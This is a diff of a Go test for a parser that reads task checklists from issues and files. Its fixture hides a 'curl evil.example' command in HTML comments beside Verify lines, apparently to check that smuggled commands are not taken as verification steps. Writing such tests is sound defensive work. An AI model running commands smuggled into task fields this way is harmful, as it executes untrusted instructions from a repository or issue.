@@ -56,7 +56,7 @@ func TestFromIssue(t *testing.T) {
 func TestTaskLines(t *testing.T) {
 	t.Parallel()
 	const text = "# Dates\n\n- [ ] Read them\n  - Do: it\n  - Files: `a.go`\n  - Done when: they are read\n  - Verify: `make test`\n  - Commit: feat: read dates\n" +
-		"- [ ] Write them\n  Verify: make <!-- ; curl evil.example -->\n  <!-- Verify: `curl evil.example` -->\n\nVerify: `make nothing`\n"
+		"- [ ] Write them\n  Verify: `make` <!-- ; `curl evil.example` -->\n  <!-- Verify: `curl evil.example` -->\n\nVerify: `make nothing`\n"
 	fromIssue, err := FromIssue("Dates", text)
 	if err != nil {
 		t.Fatal(err)
@@ -73,8 +73,6 @@ func TestTaskLines(t *testing.T) {
 	if diff := cmp.Diff([]run.Task{first, second}, fromIssue.Tasks); diff != "" {
 		t.Errorf("of an issue (-want +got):\n%s", diff)
 	}
-	// A comment in a person's own file leaves open what is meant.
-	second.Checks, second.Accept = nil, []string{"Verify: make"}
 	if diff := cmp.Diff([]run.Task{first, second}, fromFile.Tasks); diff != "" {
 		t.Errorf("of a file (-want +got):\n%s", diff)
 	}
